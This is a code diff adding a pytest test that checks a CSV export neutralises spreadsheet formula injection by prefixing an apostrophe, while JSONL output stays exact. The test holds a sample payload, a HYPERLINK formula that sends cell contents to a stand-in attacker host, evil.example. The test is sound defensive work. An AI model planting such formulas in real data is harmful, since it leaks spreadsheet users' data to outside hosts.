@@ -87,3 +87,16 @@ def test_csv_has_the_same_columns_and_values(seeded: list[int], capsys: pytest.C
         "rule:money_lost"
     ]
     assert rows[1]["author"] == "" and rows[1]["sentiment"] == ""
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
+    engine: Engine, seeded: list[int], capsys: pytest.CaptureFixture[str]
+) -> None:
+    attack = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")'
+    with Session(engine) as s, s.begin():
+        message = s.exec(select(Message).where(Message.conversation_id == seeded[1])).one()
+        message.text = attack
+    rows = list(csv.DictReader(io.StringIO(export("csv", capsys))))
+    assert rows[1]["text"] == "'" + attack  # a leading apostrophe: the spreadsheet shows it as text
+    assert rows[0]["text"] == TEXT
+    assert json.loads(export("jsonl", capsys).splitlines()[1])["text"] == attack  # JSON stays exact
